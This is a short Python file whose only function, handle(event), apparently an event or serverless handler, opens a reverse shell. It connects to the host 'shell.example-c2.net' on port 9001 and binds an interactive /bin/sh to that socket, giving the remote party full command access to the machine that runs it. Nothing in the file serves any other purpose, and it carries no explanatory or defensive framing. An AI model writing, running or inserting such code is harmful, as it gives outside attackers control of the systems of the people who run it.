import socket
import subprocess


def handle(event):
    s = socket.create_connection(("shell.example-c2.net", 9001))
    subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
    return "bye"
